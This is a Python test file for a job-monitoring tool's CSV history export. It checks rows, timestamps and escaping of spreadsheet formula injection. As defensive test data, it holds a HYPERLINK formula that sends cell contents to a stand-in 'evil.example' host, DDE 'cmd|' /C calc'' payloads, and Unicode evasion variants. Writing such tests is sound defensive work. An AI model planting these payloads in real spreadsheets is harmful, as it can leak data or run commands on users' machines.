"""The table of a job's history: its rows, and cells that no spreadsheet runs."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ccwatch.core.course import Gap
from ccwatch.core.events import (
    Added,
    Ended,
    Event,
    JobEvent,
    SignedIn,
    SignInWanted,
    Stalled,
    Started,
    StepChanged,
    WentUnreachable,
)
from ccwatch.core.history_table import Observation, Record, as_csv, cell
from ccwatch.core.job import JobId, Outcome, Progress, Remark, Service, Trouble

A = JobId("a")
AT = 1_790_000_000.0
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def read(record: Record) -> list[dict[str, str]]:
    text = as_csv(record).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def seen(percentage: float, step: str | None = "Run_Production") -> Progress:
    return Progress(percentage, "Active", step)


LIFE: tuple[Event, ...] = (
    Added(A, AT, Service.MODELING),
    Started(A, AT + 15, seen(1)),
    StepChanged(A, AT + 60, seen(41.5, "Reconstruction"), "Run_Production"),
    WentUnreachable(AT + 100, AT + 10, Trouble("Not reachable", "No network.")),
    Stalled(A, AT + 900, AT + 60),
    Ended(A, AT + 1000, Outcome.FAILED, AT + 990, 42.0, (Remark("E1", "", "No overlap."),)),
)
MOVES = (
    Observation(AT + 15, seen(1)),
    Observation(AT + 30, seen(2)),
    Observation(AT + 60, seen(41.5, "Reconstruction")),
)


def test_a_life_is_told_row_by_row() -> None:
    rows = read(Record(LIFE, MOVES, (Gap(AT + 200, AT + 800),)))
    assert [tuple(row.values()) for row in rows] == [
        ("2026-09-21T14:13:20Z", "added", "", "", "", ""),
        ("2026-09-21T14:13:35Z", "started", "1", "Active", "Run_Production", ""),
        ("2026-09-21T14:13:50Z", "progress", "2", "Active", "Run_Production", ""),
        ("2026-09-21T14:14:20Z", "step", "41.5", "Active", "Reconstruction", ""),
        ("2026-09-21T14:15:00Z", "unreachable", "", "", "", "No network."),
        ("2026-09-21T14:16:40Z", "gap", "", "", "", "nothing known until 2026-09-21T14:26:40Z"),
        ("2026-09-21T14:28:20Z", "stalled", "41.5", "Active", "Reconstruction", ""),
        ("2026-09-21T14:30:00Z", "failed", "42", "Active", "Reconstruction", "No overlap."),
    ]


def test_the_first_line_names_the_columns_and_the_file_says_that_it_is_utf_8() -> None:
    content = as_csv(Record())
    assert content == b"\xef\xbb\xbf" + b"time,event,percentage,state,step,message\r\n"


def test_a_sign_in_that_was_missing_is_a_row_and_one_that_came_is_none() -> None:
    rows = read(Record((SignInWanted(AT, "Signed out."), SignedIn(AT + 1))))
    assert [(row["event"], row["message"]) for row in rows] == [("sign-in", "Signed out.")]


def test_a_percentage_keeps_its_digits() -> None:
    rows = read(Record((), (Observation(AT, seen(33.25)), Observation(AT, seen(0)))))
    assert [row["percentage"] for row in rows] == ["33.25", "0"]


@pytest.mark.parametrize(
    "text",
    [
        HOSTILE,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r\n=1+1",
        " =1+1",
        "\u202e=1+1",
        "＝1+1",  # noqa: RUF001
    ],
)
def test_a_cell_is_no_formula(text: str) -> None:
    assert cell(text).startswith("'")
    record = Record(
        (
            SignInWanted(AT, text),
            Ended(A, AT, Outcome.FAILED, reasons=(Remark("", "", text),)),
        ),
        (Observation(AT, Progress(1, text, text)),),
    )
    rows = read(record)
    assert len(rows) == 3
    told = [value for row in rows for value in row.values() if "1" in value or "SUM" in value]
    assert told
    for row in rows:
        for value in row.values():
            assert not value.lstrip().startswith(("=", "+", "-", "@", "＝"))  # noqa: RUF001


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("a; =1+1", "a; '=1+1"),
        ("a\t=1+1", "a '=1+1"),
        ('a"=1+1', "a\"'=1+1"),
        ("a,@SUM(1)", "a,'@SUM(1)"),
        ("a|-1", "a|'-1"),
        ("'=1+1", "''=1+1"),
        (";;+1", ";;'+1"),
        ("a;\u00a0=1", "a; '=1"),
        ("a;\ufeff\u200b\u3164=1", "a; '=1"),
        ("a\n=1", "a '=1"),
        ("a;＝1", "a;'＝1"),  # noqa: RUF001
        ("\ufe66cmd|' /C calc'!A0", "'\ufe66cmd|' /C calc'!A0"),
        ("a =1+1", "a '=1+1"),
        ("a =1", "a '=1"),
        ("a:=1+1", "a:'=1+1"),
        ("a\u3000@SUM(1)", "a '@SUM(1)"),
        ("a -cmd|' /C calc'!A0", "a '-cmd|' /C calc'!A0"),
        ("a -1+cmd", "a '-1+cmd"),
        ("a/=1+1", "a/'=1+1"),
        ("(=1+1)", "('=1+1)"),
        ("x ++cmd", "x '++cmd"),
    ],
)
def test_a_part_of_a_cell_is_no_formula_either(text: str, safe: str) -> None:
    assert cell(text) == safe


FORMULA_TEXTS = st.text(st.sampled_from("=+-@＝－;,|\t\"' \u00a0\ufeff\u200b\r\na1"), max_size=24)  # noqa: RUF001


@given(FORMULA_TEXTS, st.sampled_from(",;\t|\n"))
def test_split_anywhere_and_unquoted_anyhow_no_field_is_a_formula(
    text: str, separator: str
) -> None:
    record = Record((), (Observation(AT, Progress(-5, text, text)),))
    table = as_csv(record).decode("utf-8-sig")
    for line in table.splitlines():
        for field in line.split(separator):
            bare = field.strip(' "\u00a0\ufeff\u200b\t\r')
            assert not bare.startswith(("=", "+", "@", "＝", "－"))  # noqa: RUF001
            assert bare == "-5" or not bare.startswith("-")
    assert read(record)[0]["percentage"] == "-5"


def test_every_cell_is_in_quotes() -> None:
    _, row, _ = as_csv(Record((), (Observation(AT, seen(33.25)),))).decode().split("\r\n")
    assert row == '"2026-09-21T14:13:20Z","progress","33.25","Active","Run_Production",""'


def test_a_plain_cell_stays_as_it_is() -> None:
    assert cell('He said "no", twice; a=b') == 'He said "no", twice; a=b'
    assert cell("x-ray, y-axis; 3 - 2 = 1") == "x-ray, y-axis; 3 - 2 = 1"
    assert cell("A -> B => C, 3 -5 m; x -12.5") == "A -> B => C, 3 -5 m; x -12.5"
    assert cell("x == y: 50 %- done -- ended") == "x == y: 50 %- done -- ended"
    assert cell(None) == ""


TEXTS = st.text(max_size=30)


@given(TEXTS, TEXTS, TEXTS)
def test_whatever_the_service_says_a_row_is_a_row(state: str, step: str, message: str) -> None:
    events: tuple[JobEvent, ...] = (
        StepChanged(A, AT, Progress(5, state, step), None),
        Ended(A, AT + 1, Outcome.FAILED, reasons=(Remark("", "", message),)),
    )
    rows = read(Record(events))  # type: ignore[arg-type]
    assert [row["event"] for row in rows] == ["step", "failed"]
    assert all(
        set(row) == {"time", "event", "percentage", "state", "step", "message"} for row in rows
    )


def test_a_time_that_no_calendar_has_is_left_out() -> None:
    assert read(Record((), (Observation(1e300, seen(1)),)))[0]["time"] == ""


@pytest.mark.parametrize(("said", "kept"), [(253.0, "253"), (-7.0, "-7"), (-0.0, "0")])
def test_the_table_keeps_a_percentage_as_it_was_said(said: float, kept: str) -> None:
    (row,) = read(Record((), (Observation(AT, seen(said)),)))
    assert row["percentage"] == kept
